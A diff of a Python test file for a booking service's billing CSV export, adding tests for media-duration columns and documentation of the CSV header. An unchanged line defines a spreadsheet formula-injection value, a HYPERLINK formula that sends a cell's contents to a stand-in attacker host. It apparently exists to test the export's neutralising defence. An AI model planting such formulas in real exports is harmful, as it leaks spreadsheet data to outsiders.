@@ -19,6 +19,16 @@ from booking_gate import billing_csv
 from booking_gate.appkeys import SERVICE
 from booking_gate.billing_csv import HEADER, neutralise, wants_csv
 from booking_gate.db import schema as t
+from booking_gate.model import (
+    Booking,
+    BookingId,
+    BookingStatus,
+    ClientId,
+    Funding,
+    ProfessionalId,
+    RoomId,
+    Source,
+)
 from tests.conftest import AUTH, FakeClock, GateClient, booking_body
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -50,6 +60,27 @@ def test_csv_is_chosen_by_format_then_accept(accept: str | None, fmt: str | None
                                              csv_wanted: bool) -> None:
     """format wins; otherwise text/csv ranked at least as high as JSON."""
     assert wants_csv(accept, fmt) is csv_wanted
+
+
+def test_the_media_columns_come_last_in_whole_seconds() -> None:
+    """video_seconds and audio_only_seconds are the last two columns, from the record;
+    a record without them (rules 1) gives 0."""
+    assert HEADER[-2:] == ("video_seconds", "audio_only_seconds")
+    start = datetime(2026, 11, 2, 10, tzinfo=UTC)
+    booking = Booking(BookingId("b-1"), ProfessionalId("pro-1"), ClientId("cli-1"), None,
+                      start, start + timedelta(minutes=50), Funding.PRIVATE, Source.DIRECT,
+                      BookingStatus.CONFIRMED, RoomId("r"), start, start)
+    cells = billing_csv.row(booking, {"together_seconds": 2999, "video_seconds": 2000,
+                                      "audio_only_seconds": 900}, "Dr Pro")
+    assert cells[HEADER.index("together_minutes")] == "49"
+    assert cells[-2:] == ["2000", "900"]
+    assert billing_csv.row(booking, {"together_seconds": 60}, None)[-2:] == ["0", "0"]
+
+
+def test_docs_api_shows_the_header() -> None:
+    """docs/api.md's billing CSV section names exactly HEADER."""
+    docs = (Path(__file__).parent.parent / "docs" / "api.md").read_text()
+    assert "\n" + ",".join(HEADER) + "\n" in docs
 
 
 async def call(gate: GateClient, method: str, path: str, body: Any = None,
@@ -209,6 +240,8 @@ async def test_a_month_of_10000_bookings_streams_with_bounded_memory(
     assert [r["booking_id"] for r in rows] == sorted(r["booking_id"] for r in rows)
     assert {r["outcome"] for r in rows} == {"completed"}
     assert rows[-1]["together_minutes"] == "49"
+    # Those records predate rules 2: the media columns read 0, not empty or an error.
+    assert (rows[-1]["video_seconds"], rows[-1]["audio_only_seconds"]) == ("0", "0")
     assert size > 2_000_000  # the month's export is megabytes
     # Built whole, the export would hold at least its own bytes, and every row's parsed
     # record besides (tens of megabytes); streamed, a page of rows at a time is held.
